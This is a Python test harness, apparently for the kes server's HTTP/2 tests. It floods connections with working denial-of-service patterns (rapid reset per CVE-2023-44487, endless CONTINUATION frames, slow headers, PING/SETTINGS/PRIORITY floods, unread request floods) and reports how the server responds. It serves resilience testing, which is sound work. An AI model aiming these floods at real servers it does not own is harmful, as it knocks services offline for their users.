"""HTTP/2 floods against kes (tests/h2.rs). One attack, repeated on new connections for
--seconds: each connection floods as fast as the server reads until the server ends it (GOAWAY,
or closing the connection; at most 10 s), and a new one starts while time is left. Prints one JSON result: per connection, how many
frames were queued, the GOAWAY (code, last stream, debug text), how the connection ended, and
what the server answered.

Attacks:
  rapid-reset-body    HEADERS of a PUT whose body never comes, then RST_STREAM(CANCEL): streams
                      reset before their reply (CVE-2023-44487)
  rapid-reset-worker  HEADERS of a GET that runs on a worker (/v1/status), then RST_STREAM
  rapid-reset-inline  HEADERS of GET /version (answered at once), then RST_STREAM
  continuation        HEADERS without END_HEADERS, then 16 KiB CONTINUATION frames, forever
  continuation-empty  the same with empty CONTINUATION frames
  slow-headers        after one complete request (so only the header block's own deadline
                      applies), HEADERS without END_HEADERS, then a 1-byte CONTINUATION every
                      100 ms
  settings            empty SETTINGS frames
  ping                PING frames (the replies are read)
  ping-noread         5000 PINGs written without reading anything, then the replies are read
  empty-data          a PUT's HEADERS, then empty DATA frames without END_STREAM
  priority            PRIORITY frames
  requests-noread     GET /v1/api requests (1.6 KB replies) written forever, nothing read: the
                      server can only stop reading and, once its writes stall, close
"""

import time

from hyperframe.frame import PriorityFrame, SettingsFrame

import h2peer

BATCH = 256  # frames queued at a time while less than 64 KiB wait to be written


def batcher(attack):
    """A function that returns the next batch of frames of `attack` as bytes (and how many)."""
    sid = [1]

    def next_id():
        s = sid[0]
        sid[0] += 2
        return s

    if attack.startswith("rapid-reset"):
        method, path, end = {
            "rapid-reset-body": ("PUT", "/v1/key/generate/k", False),
            "rapid-reset-worker": ("GET", "/v1/status", True),
            "rapid-reset-inline": ("GET", "/version", True),
        }[attack]
        block = h2peer.request_block(method, path)

        def batch():
            out = bytearray()
            for _ in range(BATCH // 2):
                s = next_id()
                out += h2peer.headers(s, block, end_stream=end)
                out += h2peer.rst(s)
            return bytes(out), BATCH
        return batch

    if attack in ("continuation", "continuation-empty", "slow-headers"):
        # The block is never decoded (it never ends); its content does not matter.
        fragment = {"continuation": b"\x40" * 16384, "continuation-empty": b"", "slow-headers": b"\x40"}[attack]
        count = 1 if attack == "slow-headers" else BATCH
        sid = 3 if attack == "slow-headers" else 1
        started = [False]

        def batch():
            out = bytearray()
            if not started[0]:
                started[0] = True
                out += h2peer.headers(sid, h2peer.request_block("GET", "/version")[:3], end_headers=False)
            for _ in range(count):
                out += h2peer.continuation(sid, fragment)
            return bytes(out), count
        return batch

    if attack == "settings":
        frame = SettingsFrame(0).serialize()
        return lambda: (frame * BATCH, BATCH)

    if attack in ("ping", "ping-noread"):
        frame = h2peer.ping()
        return lambda: (frame * BATCH, BATCH)

    if attack == "empty-data":
        started = [False]
        frame = h2peer.data(1, b"")

        def batch():
            out = bytearray()
            if not started[0]:
                started[0] = True
                out += h2peer.headers(1, h2peer.request_block("PUT", "/v1/key/generate/k"), end_stream=False)
            out += frame * BATCH
            return bytes(out), BATCH
        return batch

    if attack == "priority":
        def batch():
            out = bytearray()
            for _ in range(BATCH):
                out += PriorityFrame(next_id(), depends_on=0, stream_weight=15).serialize()
            return bytes(out), BATCH
        return batch

    if attack == "requests-noread":
        block = h2peer.request_block("GET", "/v1/api")

        def batch():
            out = bytearray()
            for _ in range(BATCH):
                out += h2peer.headers(next_id(), block)
            return bytes(out), BATCH
        return batch

    raise SystemExit(f"unknown attack {attack}")


def one_connection(args, until):
    """Floods one connection; returns what happened to it."""
    c = h2peer.Conn(args)
    started = time.monotonic()
    c.handshake()
    batch = batcher(args.attack)
    queued = 0
    read = args.attack not in ("ping-noread", "requests-noread")
    if args.attack == "slow-headers":
        c.out += h2peer.headers(1, h2peer.request_block("GET", "/version"))
        c.run_until(lambda: c.stream(1).ended, 5)
    attack_started = time.monotonic()

    if args.attack == "ping-noread":
        # Everything at once, reading nothing; then what the server sent.
        for _ in range(-(-5000 // BATCH)):
            out, n = batch()
            c.out += out
            queued += n
        c.run_until(lambda: not c.out and c.chunk is None, 10, read=False)
        c.run_until(lambda: False, 3)
    else:
        slow = args.attack == "slow-headers"
        # A connection that the server should end runs until it does (or 10 s more); only the
        # attack that the server does not end stops when time is up.
        if args.attack != "rapid-reset-inline":
            until = max(until, time.monotonic() + 10)
        while time.monotonic() < until and c.goaway is None and c.closed is None:
            if len(c.out) < 64 * 1024:
                out, n = batch()
                c.out += out
                queued += n
            # Returns as soon as the socket takes more (or has something to read).
            c.pump(0.05, read)
            if slow:
                time.sleep(0.1)
        if c.goaway is not None:
            # After its GOAWAY the server closes: see it happen.
            c.run_until(lambda: False, 3)

    statuses = {}
    resets = {}
    for s in c.streams.values():
        if s.status is not None:
            statuses[s.status] = statuses.get(s.status, 0) + 1
        if s.reset is not None:
            resets[s.reset] = resets.get(s.reset, 0) + 1
    result = {
        "alpn": c.alpn,
        "frames": queued,
        "bytes_sent": c.sent_bytes,
        "started": started,
        "attack_started": attack_started,
        "goaway": c.goaway,
        "closed": c.closed,
        "close_reason": c.close_reason,
        "frames_in": c.frames_in,
        "statuses": statuses,
        "resets": resets,
    }
    c.close()
    return result


def main():
    args = h2peer.parse_args(lambda p: (
        p.add_argument("--attack", required=True),
        p.add_argument("--seconds", type=float, default=1.0),
        p.add_argument("--connections", type=int, default=0, help="stop after this many (0: no limit)"),
    ))
    h2peer.start_clock()
    until = time.monotonic() + args.seconds
    conns = []
    while time.monotonic() < until or not conns:
        conns.append(one_connection(args, until))
        if args.connections and len(conns) >= args.connections:
            break
    h2peer.emit({"attack": args.attack, "started": conns[0]["started"], "ended": time.monotonic(), "connections": conns})


if __name__ == "__main__":
    main()
